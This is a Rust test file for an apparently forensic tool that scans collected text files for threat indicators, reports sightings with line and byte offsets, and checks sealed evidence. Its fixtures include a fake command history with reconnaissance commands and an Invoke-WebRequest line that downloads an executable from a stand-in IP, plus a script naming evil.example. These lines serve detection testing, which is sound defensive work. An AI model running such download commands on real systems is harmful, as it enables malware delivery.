//! Text that no parser takes apart: what was typed, scripts, configuration, mail. Indicators and `piste search` see it.
//!
//! In: small files as a collection holds them. Out: sightings with file, line and byte; rows that open again from the sealed file.

use serde_json::{Value, json};

use crate::scratch::{CASE, Scratch, text};

const FEED: &str = "indicator,type\n203.0.113.7,ip\nevil.example,domain\n198.51.100.9,ip\n";

fn wide(text: &str) -> Vec<u8> {
    format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn case() -> Scratch {
    let scratch = Scratch::new();
    let history =
        "whoami /all\r\nnet user\r\nInvoke-WebRequest http://203.0.113.7/x.exe -OutFile C:\\x.exe\r\n";
    scratch.write("ev/MX01/C/Users/a/typed.txt", history);
    scratch.write("ev/MX01/C/Windows/run.vbs", wide("rem first\r\nx = \"cdn.evil.example\"\r\n"));
    scratch.write(
        "ev/MX01/C/Windows/app.config",
        "<?xml version=\"1.0\"?>\n<a>\n<add value=\"198.51.100.90\"/>\n</a>\n",
    );
    scratch.write("ev/MX01/C/Windows/notes.dat", [0, 1, 2, 0, 255, 0]);
    scratch.write("feed.csv", FEED);
    scratch
}

#[test]
fn indicators_are_seen_in_texts_with_line_and_byte() {
    let scratch = case();
    // No event was read, and that is said; the lines are searched all the same.
    scratch.investigate("ev --indicators feed.csv --quiet").expect(3);
    let seen: Vec<Value> = scratch.lines("sightings.jsonl");
    let place = |indicator: &str| {
        let one = seen.iter().find(|one| text(one, "indicator") == indicator)?;
        Some((
            text(&one["rows"][0], "path"),
            one["rows"][0]["record"].clone(),
            one["rows"][0]["offset"].clone(),
        ))
    };
    assert_eq!(place("203.0.113.7"), Some(("ev/MX01/C/Users/a/typed.txt".to_owned(), json!(3), json!(23))));
    assert_eq!(place("evil.example"), Some(("ev/MX01/C/Windows/run.vbs".to_owned(), json!(2), json!(24))));
    assert_eq!(seen.len(), 2, "an address is not a part of another");
    assert_eq!(scratch.summary()["events"], json!(0), "a line is no event");
    assert_eq!(scratch.summary()["texts_searched"]["files"], json!(3));
    // The same over what was read, with indicators that come later.
    let later = scratch.piste(&["sightings", "--case", CASE, "--indicators", "feed.csv", "--json"]).expect(0);
    assert_eq!(later.out.lines().count(), 2);
}

#[test]
fn texts_are_searched_and_open_again_from_the_sealed_file() {
    let scratch = case();
    scratch.investigate("ev --quiet").expect(3);
    let search = |pattern: &str| scratch.piste(&["search", pattern, "--case", CASE]).expect(0).out;
    for pattern in ["203.0.113.7", "Text=*outfile*", "/Invoke-\\w+/"] {
        let found = search(pattern);
        assert_eq!(found.lines().count(), 1, "{pattern}: {found}");
        assert!(found.contains(":3 ") && found.contains("Invoke-WebRequest"), "{found}");
    }
    let found = search("evil.example");
    let record = found.split(" · ").find(|part| part.starts_with("E-")).expect("a record").to_owned();
    let shown = scratch.piste(&["show", &record, "--case", CASE, "--proof"]).expect(0).out;
    assert!(shown.contains("the same as when the row was made"), "{shown}");
    assert!(shown.contains("The whole file is as sealed"), "{shown}");
}

#[test]
fn what_was_typed_in_powershell_is_rows_of_its_own() {
    let scratch = Scratch::new();
    scratch.write("MX01/C/Users/a/AppData/ConsoleHost_history.txt", "whoami /all\r\nnet user\r\n");
    scratch.investigate("MX01 --quiet").expect(0);
    let found = scratch.piste(&["search", "whoami", "--case", CASE]).expect(0).out;
    assert!(found.contains("powershell.history") && found.contains("MX01"), "{found}");
    assert_eq!(scratch.summary()["records_read"], json!(2));
}
